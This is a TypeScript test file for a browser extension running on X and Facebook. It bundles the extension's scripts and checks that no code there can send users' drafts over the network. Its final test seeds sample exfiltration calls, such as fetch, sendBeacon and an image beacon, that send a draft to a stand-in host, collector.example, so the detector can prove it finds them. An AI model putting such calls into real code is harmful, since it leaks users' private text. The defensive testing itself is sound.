// Drafts never leave the device: the code that runs in X and Facebook pages (the content scripts)
// and the code that holds drafts and findings beside them (the checks and nudge frames and the
// check worker), everything they import, libraries included, has no way to send anything over the
// network. The entrypoints are bundled here exactly as far as their imports reach, so a new import
// that brings a network call with it fails this test before any build.
import { readFile } from 'node:fs/promises';
import { resolve } from 'node:path';
import { build, type Metafile } from 'esbuild';
import { beforeAll, describe, expect, it } from 'vitest';
import { networkApisIn } from './support/network-apis';

const ROOT = resolve(import.meta.dirname, '../..');
const CONTENT_ENTRYPOINTS = ['entrypoints/content/index.ts', 'entrypoints/paste-bridge.content.ts'];
const FRAME_ENTRYPOINTS = [
  'entrypoints/checks-frame/main.ts',
  'entrypoints/nudge-frame/main.tsx',
  'entrypoints/tip-frame/main.tsx',
  'entrypoints/check-worker/index.ts',
  'entrypoints/coach-worker/index.ts',
];

/**
 * Our own code that names a network API, and why it is harmless; checked as the library allowances are.
 */
const ALLOWED_IN_OURS: { path: string; apis: string[]; proof: RegExp; why: string }[] = [
  {
    path: 'entrypoints/content/frame-host.ts',
    apis: ['element that loads a URL', 'navigation'],
    proof: /const src = browser\.runtime\.getURL\(page\);[\s\S]*iframe\.contentWindow!\.location\.replace\(`\$\{src\}#\$\{token\}`\);/,
    why: "the content script adds Guidepost's own frames, pages of the extension (runtime.getURL), to the page",
  },
];


/**
 * Library code that names a network API, and why it is harmless. Each entry is checked, not trusted:
 * the matched text must be the one described.
 */
const ALLOWED_IN_LIBRARIES: { module: RegExp; api: string; proof: RegExp; why: string }[] = [
  {
    module: /node_modules\/wxt\/dist\/utils\/content-script-ui\//,
    api: 'fetch',
    proof: /runtime\.getURL\(`\/content-scripts\/\$\{[^}]+\}\.css`\);\s*try \{\s*return await \(await fetch\(url\d*\)\)\.text\(\);/,
    why: "WXT reads the extension's own stylesheet (a moz-/chrome-extension:// URL) for the shadow root",
  },
  {
    module: /node_modules\/@webext-core\/isolated-element\//,
    api: 'fetch',
    proof: /if \("url" in css\) \{\s*style\.textContent = yield fetch\(css\.url\)/,
    why: 'the isolated-element helper can load a stylesheet by URL; WXT passes the CSS text instead (loadCss above)',
  },
];

interface Module {
  path: string;
  code: string;
}

let modules: Module[];
let metafile: Metafile;
let frameModules: Module[];
let frameMetafile: Metafile;

/** Splits esbuild's unminified output at its `// path` module headers. */
function splitModules(bundle: string): Module[] {
  const parts = bundle.split(/^ {2}\/\/ ((?:node_modules\/|[\w-]+\/)[^\n]+)$/m);
  const out: Module[] = [];
  for (let i = 1; i < parts.length; i += 2) out.push({ path: parts[i]!, code: parts[i + 1]! });
  return out;
}

async function bundle(entryPoints: string[]): Promise<{ modules: Module[]; metafile: Metafile }> {
  const result = await build({
    entryPoints: entryPoints.map((p) => resolve(ROOT, p)),
    absWorkingDir: ROOT,
    bundle: true,
    write: false,
    outdir: 'no-network-out',
    format: 'iife',
    platform: 'browser',
    metafile: true,
    loader: { '.css': 'empty' },
    jsx: 'automatic',
    jsxImportSource: 'preact',
    logLevel: 'error',
  });
  return { metafile: result.metafile, modules: result.outputFiles.flatMap((file) => splitModules(file.text)) };
}

beforeAll(async () => {
  ({ modules, metafile } = await bundle(CONTENT_ENTRYPOINTS));
  ({ modules: frameModules, metafile: frameMetafile } = await bundle(FRAME_ENTRYPOINTS));
}, 60_000);

/** What our own sources among `inputs` name of the network APIs, less the checked allowances. */
async function ownOffences(inputs: string[]): Promise<{ offenders: string[]; allowed: Set<string> }> {
  const ours = inputs.filter((p) => !p.includes('node_modules') && /\.(?:ts|tsx)$/.test(p));
  const offenders: string[] = [];
  const allowed = new Set<string>();
  for (const path of ours) {
    const raw = await readFile(resolve(ROOT, path), 'utf8');
    const source = raw.replace(/^\s*(?:\/\/|\*|\/\*).*$/gm, '');
    const allowance = ALLOWED_IN_OURS.find((a) => a.path === path);
    for (const api of networkApisIn(source)) {
      if (allowance?.apis.includes(api) && allowance.proof.test(raw)) {
        allowed.add(allowance.why);
        continue;
      }
      offenders.push(`${path}: ${api}`);
    }
  }
  return { offenders, allowed };
}

/** What library code among `bundled` names of the network APIs, less the checked allowances. */
function libraryOffences(bundled: Module[]): { offenders: string[]; allowed: Set<string> } {
  const offenders: string[] = [];
  const allowed = new Set<string>();
  for (const { path, code } of bundled) {
    if (!path.startsWith('node_modules/')) continue;
    for (const api of networkApisIn(code)) {
      const allowance = ALLOWED_IN_LIBRARIES.find((a) => a.module.test(path) && a.api === api);
      if (allowance && allowance.proof.test(code) && code.match(/\bfetch\s*\(/g)?.length === 1) {
        allowed.add(allowance.why);
        continue;
      }
      offenders.push(`${path}: ${api}`);
    }
  }
  return { offenders, allowed };
}

describe('no network calls in the content scripts', () => {
  it('bundles what the pages really load: our sources and the libraries they import, and neither the engine, nor zod, nor a pack', () => {
    const inputs = Object.keys(metafile.inputs);
    expect(inputs).toEqual(expect.arrayContaining(CONTENT_ENTRYPOINTS));
    expect(inputs.some((p) => p.startsWith('entrypoints/content/sites/'))).toBe(true);
    expect(inputs.filter((p) => p.startsWith('rules/engine/') || p.startsWith('rules/packs/') || p.includes('node_modules/zod/'))).toEqual([]);
    expect(modules.length).toBeGreaterThan(30);
  });

  it('our own sources in the content scripts name no network API but the frames they add (read from disk, JSX and comments included)', async () => {
    const { offenders, allowed } = await ownOffences(Object.keys(metafile.inputs));
    expect(offenders).toEqual([]);
    expect([...allowed]).toEqual(ALLOWED_IN_OURS.map((a) => a.why));
  });

  it('library code bundled into them names no network API except the listed, checked stylesheet loads', () => {
    const { offenders, allowed } = libraryOffences(modules);
    expect(offenders).toEqual([]);
    // Each allowance is still needed; when a library drops its fetch, the list shrinks with it.
    expect([...allowed].sort()).toEqual(ALLOWED_IN_LIBRARIES.map((a) => a.why).sort());
  });
});

describe('no network calls where drafts and findings are checked and shown', () => {
  it('bundles the checks frame, the nudge frame and the check worker with the engine and the UI', () => {
    const inputs = Object.keys(frameMetafile.inputs);
    expect(inputs).toEqual(expect.arrayContaining(FRAME_ENTRYPOINTS));
    expect(inputs.some((p) => p.startsWith('rules/engine/'))).toBe(true);
    expect(inputs.some((p) => p.includes('node_modules/preact/'))).toBe(true);
  });

  it('neither our sources nor the libraries there name any network API', async () => {
    expect((await ownOffences(Object.keys(frameMetafile.inputs))).offenders).toEqual([]);
    expect(libraryOffences(frameModules).offenders).toEqual([]);
  });

  it('the patterns catch what they are for (each seeded call is found)', () => {
    const seeded = [
      "fetch('https://collector.example/?d=' + draft)",
      "navigator.sendBeacon('https://collector.example', draft)",
      'new XMLHttpRequest()',
      "new WebSocket('wss://collector.example')",
      "new EventSource('/stream')",
      "new Image().src = 'https://collector.example/p.gif?d=' + draft",
      "document.createElement('img')",
      "el.setAttribute('src', url)",
      '<img src={url} />',
      "window.open('https://collector.example')",
    ];
    for (const code of seeded) expect(networkApisIn(code), code).not.toEqual([]);
    expect(networkApisIn("const fetched = await fetchPack(url); // no call to the bare API\nel.srcObject === x")).toEqual([]);
  });
});
